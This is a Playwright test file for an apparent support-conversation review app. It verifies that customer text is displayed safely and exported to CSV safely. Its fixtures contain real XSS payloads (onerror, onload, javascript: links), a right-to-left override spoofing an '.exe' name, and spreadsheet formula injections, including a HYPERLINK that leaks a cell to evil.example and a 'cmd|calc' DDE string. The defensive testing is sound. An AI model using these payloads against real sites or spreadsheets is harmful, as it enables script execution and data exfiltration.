/** What customers write is drawn as text, whatever it looks like: nothing of it runs, loads or leads anywhere. */
import { expect, type Page, test } from 'playwright/test';
import { columnsOf, expectedRecord, type RawInteraction, readCsv } from '../support/csv-oracle.ts';
import { keychainUnavailable } from '../support/keychain.ts';
import { connectAndFetch, makeWorkplace, type Workplace } from '../support/workplace.ts';

const OVERRIDE = '\u202e';
const MARKUP = {
  title: '<img src=x onerror="globalThis.ran=1"> title',
  message:
    'message <img src="https://tracker.example/m.gif" onerror="globalThis.ran=2"><script>globalThis.ran=3</script> [help](javascript:globalThis.ran=4) javascript:alert(1)',
  tag: '"><svg onload="globalThis.ran=5"> tag',
  attribute: '<iframe srcdoc="<script>parent.ran=6</script>"> attribute',
  attributeName: '<b onmouseover=alert(1)>name</b>',
  article: '<a href="javascript:globalThis.ran=7">article</a>',
  attachment: '<img src=x onerror=alert(1)>.pdf',
  source: '<u>source</u>',
  status: '<i>status</i>',
} as const;

const event = (id: string, createdAt: number, role: string, message: string, more: object = {}) => ({
  id,
  createdAt,
  role,
  type: 'message',
  message,
  externalId: null,
  externalCreatedAt: null,
  csatRating: null,
  feedback: null,
  approved: null,
  resolved: null,
  attachments: [],
  tags: [],
  usedArticles: [],
  ...more,
});

const interaction = (id: string, at: number, more: object): Readonly<Record<string, unknown>> & RawInteraction => ({
  id,
  createdAt: at,
  source: 'widget',
  channel: 'chat',
  status: 'Resolved',
  externalId: null,
  url: '',
  subjectPreview: '',
  hasFeedback: false,
  resolved: null,
  userAttributes: {},
  usedArticles: [],
  usedSubfolders: [],
  events: [],
  ...more,
});

const hour = 3_600_000;
const markup = (now: number) =>
  interaction('hostile-markup', now - hour, {
    source: MARKUP.source,
    status: MARKUP.status,
    url: 'javascript:globalThis.ran=8',
    subjectPreview: MARKUP.title,
    userAttributes: { [MARKUP.attributeName]: MARKUP.attribute },
    events: [
      event('m1', now - hour, 'user', MARKUP.message, {
        tags: [{ id: 'hostile-tag', name: MARKUP.tag, groupId: null }],
        attachments: [
          { name: MARKUP.attachment, originalUrl: 'javascript:globalThis.ran=9', contentType: 'x', sizeBytes: 1 },
        ],
      }),
      event('m2', now - hour + 1000, 'finibot', 'Answer.', {
        usedArticles: [{ id: 'a', title: MARKUP.article, documentUrl: 'javascript:globalThis.ran=10' }],
      }),
    ],
  });
const bidi = (now: number) =>
  interaction('hostile-bidi', now - 2 * hour, {
    subjectPreview: `Invoice${OVERRIDE}fdp.exe attached`,
    events: [event('b1', now - 2 * hour, 'user', `Open invoice${OVERRIDE}fdp.exe now. \u2067right\u2069`)],
  });
const formula = (now: number) =>
  interaction('=cmd-formula', now - 3 * hour, {
    subjectPreview: '=HYPERLINK("https://evil.example?leak="&A1,"Pay")',
    externalId: '+49 30 901820',
    userAttributes: { total: '@SUM(A1:A9)' },
    events: [event('f1', now - 3 * hour, 'user', '-2+3+cmd|calc')],
  });

let place: Workplace;
test.afterEach(async () => {
  await place?.remove();
});

/** What the page tried beyond showing text. */
const watch = (page: Page, origin: string): readonly string[] => {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => seen.push(`popup: ${popup.url()}`));
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== origin) seen.push(`request: ${request.url()}`);
  });
  page.on('websocket', (socket) => {
    if (new URL(socket.url()).host !== new URL(origin).host) seen.push(`socket: ${socket.url()}`);
  });
  page.on('framenavigated', (frame) => {
    if (new URL(frame.url()).origin !== origin) seen.push(`frame: ${frame.url()}`);
  });
  return seen;
};

test('markup, script links, direction overrides and formulas of customers stay text everywhere', async () => {
  test.skip(keychainUnavailable() !== null, `No keychain: ${keychainUnavailable()}`);
  const now = Date.now();
  const interactions = [markup(now), bidi(now), formula(now)];
  place = await makeWorkplace({ interactions });
  const { page, reviewer, errors } = await place.open();
  const tried = watch(page, new URL(place.machine.host().url).origin);
  await connectAndFetch(reviewer, place.api.key);
  await reviewer.expectCount(3);
  const { conversation, list } = reviewer;

  await test.step('markup', async () => {
    await expect(list.getByRole('option').first()).toContainText(MARKUP.title);
    await page.getByRole('button', { name: 'Show filters' }).click();
    await expect(page.getByRole('navigation', { name: 'Filters' })).toContainText(MARKUP.tag);
    await page.keyboard.press('Escape');
    await reviewer.openFirst();
    await expect(conversation.getByRole('heading', { level: 2 })).toHaveText(MARKUP.title);
    for (const fold of await conversation.locator('summary').all()) await fold.click();
    for (const text of Object.values(MARKUP)) await expect(conversation).toContainText(text);
    await expect(page.locator('img, iframe, script:not([src]), a[href], svg[onload], [onerror], b, u, i')).toHaveCount(
      0,
    );
    // What looks like a link to a script leads nowhere.
    await expect(conversation.getByText('javascript:globalThis.ran=8')).toBeVisible();
    await expect(conversation.getByRole('button', { name: /javascript|article|\.pdf/iu })).toHaveCount(0);
    await expect(page.getByRole('region', { name: 'Review' })).toContainText(MARKUP.tag);
    await reviewer.search('onerror');
    await reviewer.expectCount(1);
    await expect(list.locator('mark').first()).toHaveText('onerror');
  });

  await test.step('direction', async () => {
    await reviewer.search('id:hostile-bidi');
    await reviewer.expectCount(1);
    await reviewer.openFirst();
    await expect(conversation).toContainText('Open invoicefdp.exe now.');
    await expect(conversation.getByRole('heading', { level: 2 })).toHaveText('Invoicefdp.exe attached');
    await expect(page.locator('body')).not.toContainText(OVERRIDE);
  });

  await test.step('formulas', async () => {
    await reviewer.search('leak');
    await reviewer.expectCount(1);
    await reviewer.openFirst();
    await reviewer.label('=1+1');
    await reviewer.note('@SUM(1)');
    await reviewer.search('');
    await reviewer.expectCount(3);
    const records = await readCsv(await reviewer.exportCsv());
    for (const one of interactions) {
      const expected = expectedRecord(one);
      const record = records.find((candidate) => candidate['interaction_id'] === expected['interaction_id']);
      expect(columnsOf(record ?? {}, expected)).toEqual(expected);
    }
    const judged = records.find((record) => record['labels'] !== '');
    expect(judged).toMatchObject({ interaction_id: "'=cmd-formula", labels: "'=1+1", note: "'@SUM(1)" });
    for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/u);
  });

  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  expect(tried).toEqual([]);
  // The policy had nothing to stop, since nothing was tried.
  expect(errors).toEqual([]);
});
